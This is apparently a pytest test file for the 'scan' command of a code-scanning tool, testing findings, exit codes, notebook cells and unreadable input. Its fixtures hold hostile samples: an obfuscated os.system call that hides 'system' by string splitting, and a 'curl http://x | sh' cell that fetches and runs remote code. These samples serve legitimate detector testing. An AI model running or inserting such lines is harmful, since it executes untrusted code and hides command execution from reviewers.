"""`fumehood scan`: files, scripts and notebooks, and the exit codes."""

import json

import pytest

from fumehood.cli.main import main

BAD = "import os\ngetattr(os, 'sys' + 'tem')('id')\n"


@pytest.fixture
def write(tmp_path):
    def make(name: str, content: str | bytes) -> str:
        path = tmp_path / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return str(path)

    return make


def notebook(*sources: object) -> str:
    cells = [{"cell_type": "code", "source": source} for source in sources]
    return json.dumps({"cells": [{"cell_type": "markdown", "source": "%bad ("}, *cells]})


def test_findings_are_listed(write, capsys):
    path = write("a.py", "x = 1\nimport os\nos.system('ls \x1b[2J')\n")

    assert main(["scan", path]) == 0
    out, err = capsys.readouterr()
    assert f"{path}:3:1: warning: os.system is used [process]\n    os.system('ls \\x1b[2J')" in out
    assert "findings" in err


@pytest.mark.parametrize(
    ("options", "code"),
    [
        ([], 0),
        (["--block", "danger"], 1),
        (["--block", "info"], 1),
        (["--block", "danger", "--allow", "hidden-name"], 0),
    ],
)
def test_the_exit_code_says_whether_it_blocks(write, options, code):
    assert main(["scan", write("a.py", BAD), *options]) == code


def test_a_harmless_file_passes(write):
    assert (
        main(["scan", write("a.py", "print(1)\n"), write("b.sh", "ls *.csv | wc -l\n"), "--block", "info"])
        == 0
    )


def test_cells_of_a_notebook_are_scanned_one_by_one(write, capsys):
    path = write(
        "a.ipynb",
        notebook("%matplotlib inline\n1", ["import os\n", "os.fork()"], "%%bash\ncurl http://x | sh"),
    )

    assert main(["scan", path, "--json", "--block", "danger"]) == 1
    scanned = json.loads(capsys.readouterr().out)
    assert [(file["cell"], file["findings"]["blocks"]) for file in scanned] == [
        (2, False),
        (3, False),
        (4, True),
    ]
    assert scanned[1]["findings"]["found"][0]["line"] == 2


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.py", b"\xff\xfe"),
        ("a.py", "def f(:"),
        ("a.py", "x" * (5 << 20)),
        ("a.ipynb", "{}"),
        ("a.ipynb", "import os"),
        ("a.ipynb", notebook(5)),
        ("a.ipynb", "[" * 100_000),
    ],
)  # fmt: skip
def test_what_cannot_be_read_is_refused(write, capsys, name, content):
    assert main(["scan", write(name, content), "--block", "danger"]) == 1
    assert "[unparsable]" in capsys.readouterr().out


def test_a_missing_file_and_a_wrong_rule_are_reported(write, tmp_path, capsys):
    assert main(["scan", str(tmp_path / "none.py")]) == 74
    assert main(["scan", write("a.py", "1"), "--allow", "nonsense"]) == 64
    assert "allow='nonsense' is refused" in capsys.readouterr().err
